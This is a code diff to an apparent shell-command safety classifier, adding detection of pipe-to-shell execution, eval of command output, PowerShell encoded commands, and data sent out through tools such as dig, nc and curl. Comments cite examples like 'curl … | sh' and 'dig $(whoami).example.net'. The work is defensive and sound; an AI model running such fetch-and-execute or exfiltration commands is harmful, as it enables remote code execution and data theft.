@@ -21,6 +21,16 @@ const COMMENT_WITH_OPERATOR = /(?:^|\s)#[^\n]*[;&|<>`$(){}]/m;
 const QUOTED = /\\.|\$'(?:[^'\\]|\\.)*'|'[^']*'|"(?:[^"\\]|\\.)*"/gs;
 const SUBSTITUTION = /[$<>]\(|\$\{|`/g;
 
+/** Programs that run a text as code. */
+const INTERPRETER =
+  /^(?:\/\S*\/)?(?:(?:ba|z|da|k|a|fi|c|tc)?sh|python[\d.]*|perl|ruby|node|deno|bun|php|lua|osascript|pwsh|powershell|iex|invoke-expression|source|\.|eval)$/i;
+/** Programs that run another one, before it. */
+const BEFORE_INTERPRETER = /^(?:sudo|doas|env|xargs|nohup|exec|time|nice|command|busybox|-\S*|[A-Za-z_]\w*=.*)$/;
+/** PowerShell, which no parser of a shell reads: a text from elsewhere that runs as code. */
+const POWERSHELL_CODE =
+  /(?:^|[|;&({]\s*)(?:iex|invoke-expression)\b|\b(?:powershell|pwsh)(?:\.exe)?\b.{0,80}\s-e(?:nc|c|ncodedcommand)?\s/i;
+/** Programs that send their arguments to another host. */
+const SENDS_ARGUMENTS = new Set("dig nslookup host ping getent nc ncat telnet openssl traceroute".split(" "));
 /** Assignments that select no program and no option: names of users' own, and those of locale, time zone and server. */
 const HARMLESS_VARIABLE =
   /^(?:[a-z_][a-z\d_]*|[A-Z]|LANG|LC_[A-Z]+|TZ|KUBECONFIG|(?:DOCKER|CONTAINER)_HOST|PG(?:HOST|PORT|USER|DATABASE))$/;
@@ -42,6 +52,7 @@ export function commandEffect(command: string): CommandEffect {
   if (command.length > MAX_LENGTH) return null;
   const text = command.replaceAll("\r\n", "\n").trim().replace(PLACEHOLDER, "placeholder");
   if (AMBIGUOUS.test(text) || COMMENT_WITH_OPERATOR.test(text.replace(QUOTED, "''"))) return null;
+  if (POWERSHELL_CODE.test(text)) return "changes_state";
   if (!startsAsSql(text)) return shellEffect(text, 0, false);
   return isAlsoShell(text) ? null : sqlEffect(text);
 }
@@ -66,6 +77,7 @@ function shellEffect(text: string, depth: number, isWithinAssignments: boolean):
   }
   function ownEffect(node: SyntaxNode): CommandEffect {
     if ("errors" in node && node.errors && node.errors.length > 0) return null;
+    if (runsForeignCode(node)) return "changes_state";
     if (TRANSPARENT.has(node.type)) return "read_only";
     switch (node.type) {
       case "Command":
@@ -92,11 +104,61 @@ function shellEffect(text: string, depth: number, isWithinAssignments: boolean):
     const words = [name, ...args].map((word) =>
       word.type === "Word" ? readArgument(word, hasAssignments) : UNKNOWN_ARGUMENT,
     );
+    if (sendsOutput(name, args)) return null;
     return programEffect(words, (inner) => shellEffect(inner, depth + 1, hasAssignments));
   }
 
   // An empty script reads nothing.
   return script.commands.length === 0 ? null : effectOf(script);
+}
+
+/** Whether a program runs what another one prints: `curl … | sh`, `bash <(curl …)`, `eval "$(…)"`. */
+function runsForeignCode(node: SyntaxNode): boolean {
+  if (node.type === "Pipeline")
+    return node.commands.slice(1).some((each) => each.type === "Command" && runsItsInput(each));
+  if (node.type !== "Command") return false;
+  const at = interpreterAt(node);
+  if (at === -1) return false;
+  const words = wordsOf(node);
+  if (/^eval$/i.test(words[at]?.value ?? "")) return true;
+  const hasInput = node.redirects.some(({ type }) => type === "HereString" || type === "HereDoc");
+  return hasInput || words.slice(at + 1).some(isSubstituted);
+}
+
+/** `| sh` runs its input; `| python3 -m json.tool` reads it. */
+function runsItsInput(command: Command): boolean {
+  const at = interpreterAt(command);
+  if (at === -1) return false;
+  const words = wordsOf(command).map(({ value }) => value);
+  const [script = "-"] = words.slice(at + 1).filter((word) => !/^-[a-bdf-ln-z]+$|^--\w/.test(word));
+  return words.includes("xargs") || /^(?:-|--|\/dev\/stdin)$/.test(script) || words.slice(at + 1).includes("-s");
+}
+
+/** The place of an interpreter among the words of a command; -1 without one. */
+function interpreterAt(command: Command): number {
+  const words = wordsOf(command);
+  const at = words.findIndex(({ value }) => !BEFORE_INTERPRETER.test(value));
+  return INTERPRETER.test(words[at]?.value ?? "") ? at : -1;
+}
+
+function wordsOf({ name, args }: Command): Word[] {
+  return [...(name ? [name] : []), ...args].filter((word) => word.type === "Word");
+}
+
+/** Whether what another command prints becomes part of a word. */
+function isSubstituted({ parts = [] }: Word): boolean {
+  return parts.some((part) =>
+    (part.type === "DoubleQuoted" ? part.parts : [part]).some(
+      ({ type }) => type === "CommandExpansion" || type === "ProcessSubstitution",
+    ),
+  );
+}
+
+/** Whether the output of another command goes to another host, as in `dig $(whoami).example.net`. */
+function sendsOutput(name: Word, args: Command["args"]): boolean {
+  // A header may hold a token of a file.
+  const isAddress = SENDS_ARGUMENTS.has(name.value) ? /./ : /^(?:curl|wget)$/.test(name.value) ? /:\/\// : null;
+  return args.some((word) => word.type === "Word" && isAddress?.test(word.text) && isSubstituted(word));
 }
 
 function redirectEffect({ operator, target, descriptor }: Redirect): CommandEffect {
